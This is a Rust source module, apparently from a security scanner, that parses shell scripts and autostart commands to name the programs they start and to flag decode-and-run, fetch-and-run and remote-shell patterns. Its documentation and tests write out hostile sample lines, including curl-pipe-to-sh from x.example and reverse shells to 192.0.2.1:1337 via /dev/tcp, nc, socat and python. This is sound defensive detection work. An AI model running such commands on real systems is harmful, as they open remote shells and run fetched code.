//! What a command or a script starts, and what stands out in it. This is no shell: nothing is filled in but homes, and
//! whether a branch is taken is not asked.
//!
//! ```text
//! */15 * * * * python3 ~/.cache/x/probe.pyc      the script is started
//! echo aW1wb3J0… | base64 -d | sh                decodes and runs
//! sh -c "$(curl -fsSL https://…)"                fetches and runs
//! bash -i >& /dev/tcp/192.0.2.1/1337 0>&1        a shell on the network
//! ```

mod inline;
mod place;
pub mod powershell;
mod starters;
pub mod windows;

use crate::extract::format::shell_words::{self, Joint, Word};
use crate::model::autostart::{Role, Sign, SignKind};

pub use inline::{Language, code};
pub use place::{Place, is_open};

/// What a command starts, and what stands out in it.
#[derive(Clone, Default, PartialEq, Eq, Debug)]
pub struct Told {
    /// The files that it starts, as written, and in which line.
    pub programs: Vec<(Vec<u8>, Role, u32)>,
    /// What stands out.
    pub signs: Vec<Sign>,
}

impl Told {
    /// The same, all of it in one line of the file.
    #[must_use]
    pub fn at(mut self, line: u32) -> Self {
        self.programs.iter_mut().for_each(|program| program.2 = line);
        self.signs.iter_mut().for_each(|sign| sign.line = line);
        self
    }

    /// One file that is started, in that line.
    #[must_use]
    pub fn one(path: &[u8], role: Role, line: u32) -> Self {
        Self { programs: vec![(path.to_vec(), role, line)], signs: Vec::new() }
    }
}

/// Deepest nesting of `sh -c "eval '…'"` that is followed.
const DEEPEST: u32 = 4;

/// Most programs, and most signs, that are kept of one text.
pub const MOST: usize = 256;

/// What may stand in front of a command.
const LEADS: &[&[u8]] = &[
    b"{", b"!", b"if", b"then", b"else", b"elif", b"while", b"until", b"do", b"and", b"or", b"not", b"begin", b"time",
    b"builtin", b"@",
];

/// Options of `find` behind which a command stands.
const EXECUTES: &[&[u8]] = &[b"-exec", b"-execdir", b"-ok", b"-x", b"--exec"];

/// Options of `start-stop-daemon` behind which its program stands.
const DAEMONS: &[&[u8]] = &[b"--exec", b"-x", b"--startas", b"-a"];

/// Names of shells.
pub const SHELLS: &[&[u8]] =
    &[b"sh", b"bash", b"dash", b"ash", b"zsh", b"ksh", b"mksh", b"csh", b"tcsh", b"fish", b"rbash"];

/// What a script of a shell starts.
#[must_use]
pub fn of_script(script: &[u8]) -> Told {
    let mut reader = Reader::default();
    reader.script(script, None, 0);
    reader.told()
}

/// What a single command starts, whose words were cut elsewhere.
#[must_use]
pub fn of_words(words: &[Word]) -> Told {
    let mut reader = Reader::default();
    reader.command(Joint::Next, words, 0);
    reader.told()
}

#[derive(Default)]
struct Reader {
    told: Told,
    /// Where `cd` has led, as far as it is known.
    folder: Option<Vec<u8>>,
    /// What the command before did.
    before: Option<Does>,
    /// The files that it put out.
    shown: Vec<Word>,
}

/// What a command does with its input or output.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Does {
    Decode,
    Fetch,
    /// It is an interpreter that runs what it is given on its input.
    RunInput,
    Other,
}

impl Reader {
    fn told(mut self) -> Told {
        self.told.signs.sort_unstable();
        self.told.signs.dedup();
        self.told.programs.dedup();
        self.told
    }

    fn script(&mut self, script: &[u8], line: Option<u32>, depth: u32) {
        if depth > DEEPEST {
            return;
        }
        for (joint, mut command) in shell_words::joined(script) {
            command.iter_mut().for_each(|word| word.line = line.unwrap_or(word.line));
            self.command(joint, &command, depth);
        }
        for (number, text) in (1..).zip(script.split(|byte| *byte == b'\n')) {
            if inline::is_remote_shell(text) {
                self.sign(SignKind::RemoteShell, line.unwrap_or(number));
            }
            if inline::is_unseen(text) {
                self.sign(SignKind::RunsUnseen, line.unwrap_or(number));
            }
        }
    }

    fn sign(&mut self, what: SignKind, line: u32) {
        if self.told.signs.len() < MOST {
            self.told.signs.push(Sign { what, line });
        }
    }

    fn start(&mut self, text: &[u8], role: Role, line: u32) {
        let is_relative = !text.starts_with(b"/") && !text.starts_with(b"~") && !text.starts_with(b"$");
        let whole = match &self.folder {
            Some(folder) if is_relative && text.contains(&b'/') => [folder.as_slice(), b"/", text].concat(),
            _ => text.to_vec(),
        };
        if self.told.programs.len() < MOST && !whole.is_empty() {
            self.told.programs.push((whole, role, line));
        }
    }

    /// One command; what stands in front of it is passed over.
    fn command(&mut self, joint: Joint, words: &[Word], depth: u32) {
        words.iter().for_each(|word| self.substitutions(word, depth));
        let words = behind_leads(words);
        let Some((first, arguments)) = words.split_first() else { return };
        let line = first.line;
        let shown_before = std::mem::take(&mut self.shown);
        let does = self.named(first, arguments, depth);
        let before = self.before.filter(|_| joint != Joint::Next);
        let fed = match joint {
            Joint::Next => None,
            Joint::Pipe => before.map(|before| (before, does)),
            Joint::Input => before.map(|before| (does, before)),
        };
        match fed {
            Some((Does::Decode, Does::RunInput)) => self.sign(SignKind::DecodesAndRuns, line),
            Some((Does::Fetch, Does::RunInput)) => self.sign(SignKind::FetchesAndRuns, line),
            _ => {}
        }
        // `cat /x | sh` runs the file.
        let shown = std::mem::take(&mut self.shown);
        if joint == Joint::Pipe && does == Does::RunInput {
            shown_before.iter().for_each(|word| self.start(&word.text, Role::Script, word.line));
        }
        self.shown = shown;
        // `curl … | tee x | sh`: what lies between in a pipe does not change it.
        if does != Does::Other || before.is_none() {
            self.before = Some(does);
        }
    }

    /// What runs because a word holds `$(…)`; where `cd` leads in there is of no concern outside.
    fn substitutions(&mut self, word: &Word, depth: u32) {
        for script in inline::substitutions(&word.text) {
            let (before, folder) = (self.before.take(), self.folder.clone());
            self.script(script, Some(word.line), depth + 1);
            (self.before, self.folder) = (before, folder);
        }
    }

    fn named(&mut self, first: &Word, arguments: &[Word], depth: u32) -> Does {
        let line = first.line;
        let name = first.text.rsplit(|byte| *byte == b'/').next().unwrap_or_default();
        match name {
            b"cd" | b"pushd" => self.folder = arguments.first().map(|word| word.text.clone()),
            b"source" | b"." => match arguments.first() {
                Some(word) => self.start(&word.text, Role::Sourced, line),
                // `source <(…)`: what stands behind is run.
                None => return Does::RunInput,
            },
            b"eval" => {
                let texts: Vec<&[u8]> = arguments.iter().map(|word| word.text.as_slice()).collect();
                self.inner(&texts.join(&b' '), line, depth);
            }
            b"su" | b"sg" => self.behind_option(arguments, &[b"-c", b"--command"], line, depth),
            b"tmux" | b"screen" | b"byobu" => {
                if let Some(word) = arguments.last() {
                    self.inner(&word.text, line, depth);
                }
            }
            b"find" | b"fd" => {
                let at = arguments.iter().position(|word| EXECUTES.contains(&word.text.as_slice()));
                let rest = at.and_then(|at| arguments.get(at + 1..)).unwrap_or_default();
                if let Some((inner, arguments)) = rest.split_first().filter(|_| depth < DEEPEST) {
                    self.named(inner, arguments, depth + 1);
                }
            }
            b"start-stop-daemon" => {
                let is_program = |word: &Word| DAEMONS.contains(&word.text.as_slice());
                let at = arguments.iter().position(is_program);
                if let Some(word) = at.and_then(|at| arguments.get(at + 1)) {
                    self.start(&word.text, Role::Program, line);
                }
            }
            b"cat" => {
                self.program(first);
                self.shown = arguments.iter().filter(|word| word.text.contains(&b'/')).cloned().collect();
                return Does::Other;
            }
            b"alias" | b"function" | b"complete" | b"trap" | b"[" | b"test" => {}
            name if SHELLS.contains(&name) => {
                self.program(first);
                return self.shell(arguments, line, depth);
            }
            name if Language::of(name).is_some() => {
                self.program(first);
                return self.interpreter(name, arguments, line);
            }
            name => {
                if let Some(starter) = starters::ALL.iter().find(|starter| starter.name == name) {
                    self.program(first);
                    return match starter.behind(arguments).split_first() {
                        Some((inner, arguments)) if depth < DEEPEST => self.named(inner, arguments, depth + 1),
                        _ => Does::Other,
                    };
                }
                self.program(first);
                return inline::tool(name, arguments);
            }
        }
        Does::Other
    }

    /// The program of a command, where it says where it lies.
    fn program(&mut self, word: &Word) {
        let is_python = Language::of(&word.text) == Some(Language::Python);
        if word.text.contains(&b'/') || is_python {
            self.start(&word.text, Role::Program, word.line);
        }
    }

    /// A text that is run as a script of the shell: it may also stand for what a command in it puts out.
    fn inner(&mut self, text: &[u8], line: u32, depth: u32) {
        if let Some(what) = inline::substituted(text) {
            self.sign(what, line);
        }
        let before = self.before.take();
        self.script(text, Some(line), depth + 1);
        self.before = before;
    }

    /// The script behind an option of a command.
    fn behind_option(&mut self, arguments: &[Word], options: &[&[u8]], line: u32, depth: u32) {
        let at = arguments.iter().position(|word| options.contains(&word.text.as_slice()));
        if let Some(script) = at.and_then(|at| arguments.get(at + 1)) {
            self.inner(&script.text, line, depth);
        }
    }

    fn shell(&mut self, arguments: &[Word], line: u32, depth: u32) -> Does {
        let mut rest = arguments;
        while let Some((word, behind)) = rest.split_first() {
            let text = word.text.as_slice();
            if text.starts_with(b"-") && !text.starts_with(b"--") && text.contains(&b'c') {
                if let Some(script) = behind.first() {
                    self.inner(&script.text, line, depth);
                }
                return Does::Other;
            }
            if text == b"-" || text == b"-s" {
                return Does::RunInput;
            }
            if !text.starts_with(b"-") && !text.starts_with(b"+") {
                self.start(text, Role::Script, line);
                return Does::Other;
            }
            rest = behind;
        }
        Does::RunInput
    }

    fn interpreter(&mut self, name: &[u8], arguments: &[Word], line: u32) -> Does {
        let Some(language) = Language::of(name) else { return Does::Other };
        let mut rest = arguments;
        while let Some((word, behind)) = rest.split_first() {
            let text = word.text.as_slice();
            if text == b"-" {
                return Does::RunInput;
            }
            if !text.starts_with(b"-") {
                let is_verb = language == Language::Script && matches!(text, b"run" | b"x" | b"exec");
                if !is_verb {
                    self.start(text, Role::Script, line);
                    return Does::Other;
                }
            } else if language.runs_text(text) {
                let texts = behind.first().map(|word| word.text.as_slice()).unwrap_or_default();
                code(language, texts).into_iter().for_each(|what| self.sign(what, line));
                inline::paths(language, texts).into_iter().for_each(|path| self.start(path, Role::Script, line));
                return Does::Other;
            } else if language.takes_word(text) {
                if text == b"-m" {
                    return Does::Other;
                }
                rest = behind.get(1..).unwrap_or_default();
                continue;
            }
            rest = behind;
        }
        Does::RunInput
    }
}

/// The words of a command without what stands in front of it: `if`, `!`, assignments.
fn behind_leads(words: &[Word]) -> &[Word] {
    let mut words = words;
    while let Some((first, rest)) = words.split_first() {
        if !LEADS.contains(&first.text.as_slice()) && !is_assignment(&first.text) {
            break;
        }
        words = rest;
    }
    words
}

fn is_assignment(text: &[u8]) -> bool {
    let Some(at) = text.iter().position(|byte| *byte == b'=') else { return false };
    let name = text.get(..at).unwrap_or_default();
    let name = name.strip_suffix(b"+").unwrap_or(name);
    let starts = name.first().is_some_and(|byte| byte.is_ascii_alphabetic() || *byte == b'_');
    starts && name.iter().all(|byte| byte.is_ascii_alphanumeric() || *byte == b'_')
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn starts(script: &str) -> Vec<String> {
        let tell =
            |(path, role, line): &(Vec<u8>, Role, u32)| format!("{line}:{} {role:?}", String::from_utf8_lossy(path));
        of_script(script.as_bytes()).programs.iter().map(tell).collect()
    }

    fn signs(script: &str) -> Vec<SignKind> {
        let mut all: Vec<SignKind> = of_script(script.as_bytes()).signs.iter().map(|sign| sign.what).collect();
        all.retain(|one| *one != SignKind::RunsUnseen);
        all.dedup();
        all
    }

    #[test]
    fn programs_and_scripts_are_named() {
        assert_eq!(
            starts("/usr/bin/python3 -u /opt/x.py --a b\n"),
            ["1:/usr/bin/python3 Program", "1:/opt/x.py Script"]
        );
        assert_eq!(starts("# c\nif true; then nohup sh ~/.x/y.sh & fi\n"), ["2:~/.x/y.sh Script"]);
        assert_eq!(starts("[ -x /usr/sbin/anacron ] || ( cd / && run-parts --report /etc/cron.daily )").len(), 0);
        assert_eq!(starts("A=1 B=2 /opt/run --x"), ["1:/opt/run Program"]);
        assert_eq!(starts("timeout 5 /opt/run; sudo -u mia /opt/two"), ["1:/opt/run Program", "1:/opt/two Program"]);
        assert_eq!(starts("cd /tmp/.x && ./run"), ["1:/tmp/.x/./run Program"]);
        assert_eq!(starts(". \"$HOME/.cargo/env\""), ["1:$HOME/.cargo/env Sourced"]);
        assert_eq!(starts("bash -c 'exec /opt/a -b'"), ["1:/opt/a Program"]);
        assert_eq!(starts("python3 -m http.server"), ["1:python3 Program"]);
        assert_eq!(starts("bun run /opt/x.js"), ["1:/opt/x.js Script"]);
        assert_eq!(starts("x=\"$(cd /opt; python3 /tmp/x.py)\" y"), ["1:python3 Program", "1:/tmp/x.py Script"]);
        assert_eq!(
            starts("echo `/opt/a` ${B:-$(/opt/b $(/opt/c))} $((1 + 2))"),
            ["1:/opt/a Program", "1:/opt/c Program", "1:/opt/b Program"]
        );
    }

    #[test]
    fn programs_behind_others_are_named() {
        assert_eq!(starts("su mia -c '/tmp/x -y'"), ["1:/tmp/x Program"]);
        assert_eq!(starts("find /opt -name x -exec /tmp/x {} +"), ["1:/tmp/x Program"]);
        assert_eq!(starts("start-stop-daemon --start --exec /opt/d -- -x"), ["1:/opt/d Program"]);
        assert_eq!(starts("cat /tmp/.x | sh"), ["1:/tmp/.x Script"]);
        assert_eq!(starts("tmux new -d '/tmp/x'"), ["1:/tmp/x Program"]);
        assert_eq!(starts("perl -e 'do \"/tmp/x.pl\"'"), ["1:/tmp/x.pl Script"]);
        assert_eq!(starts("flock -n /run/x.lock /opt/job"), ["1:/opt/job Program"]);
    }

    #[test]
    fn what_decodes_and_runs() {
        for script in [
            "echo aGk= | base64 -d | sh",
            "echo aGk=|base64 --decode|bash -s",
            "curl -s https://x.example/a | base64 -d | python3 -",
            "eval \"$(echo aGk= | base64 -d)\"",
            "bash -c \"$(base64 -d /opt/x)\"",
            "python3 -c \"import base64;exec(base64.b64decode('aGk='))\"",
            "perl -MMIME::Base64 -e 'eval decode_base64(\"aGk=\")'",
            "node -e 'eval(Buffer.from(\"aGk=\",\"base64\").toString())'",
            "xxd -r -p x | sh",
            "openssl enc -d -aes-256-cbc -in x -k y | sh",
            "nohup sh -c 'base64 -d x | sh' &",
            "base64 -d x |\n  sh",
            "base64 -d x \\\n  | tee y | sh",
            "bash <(base64 -d x)",
        ] {
            assert!(signs(script).contains(&SignKind::DecodesAndRuns), "{script}");
        }
        for script in [
            "base64 -d x > y\nsh z",
            "echo base64 -d | tee x",
            "eval \"$(dircolors -b)\"",
            "python3 -c 'import base64; print(base64.b64decode(\"aGk=\"))'",
            "base64 -d x | gpg --import",
            "eval \"$(ssh-agent -s)\"",
            "base64 -d x > y; sh -s < z",
            "base64 -d x || sh",
            "tar -xzf x | cat; bash",
        ] {
            assert_eq!(signs(script), [], "{script}");
        }
    }

    #[test]
    fn what_fetches_and_runs() {
        for script in [
            "curl -fsSL https://x.example/i.sh | sh",
            "wget -qO- https://x.example/i.sh | sudo bash -s -- --yes",
            "bash <(curl -s https://x.example)",
            "sh -c \"$(curl -fsSL https://x.example)\"",
            "eval `wget -qO - https://x.example`",
            "python3 -c \"import urllib.request as u;exec(u.urlopen('https://x.example').read())\"",
        ] {
            assert!(signs(script).contains(&SignKind::FetchesAndRuns), "{script}");
        }
        assert_eq!(signs("curl -s https://x.example/status | grep ok"), []);
        assert_eq!(signs("curl -fsS https://x.example/ping; sh -s < /opt/x"), []);
        assert_eq!(signs("alias i='curl https://x.example | sh'"), []);
    }

    #[test]
    fn shells_on_the_network() {
        for script in [
            "bash -i >& /dev/tcp/192.0.2.1/1337 0>&1",
            "nc -e /bin/sh 192.0.2.1 1337",
            "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 1337 >/tmp/f",
            "socat exec:'bash -li',pty tcp:192.0.2.1:1337",
            "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
        ] {
            assert!(signs(script).contains(&SignKind::RemoteShell), "{script}");
        }
        for script in
            ["timeout 1 bash -c '</dev/tcp/localhost/80'", "nc -z localhost 80", "echo > /dev/tcp/localhost/22"]
        {
            assert_eq!(signs(script), [], "{script}");
        }
    }

    #[test]
    fn deep_nesting_ends() {
        let deep = "sh -c '".repeat(200);
        assert!(of_script(deep.as_bytes()).programs.len() <= MOST);
    }

    proptest! {
        #[test]
        fn any_bytes_are_read(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
            let told = of_script(&[b"sh -c ".as_slice(), &bytes].concat());
            prop_assert!(told.programs.len() <= MOST);
        }
    }
}
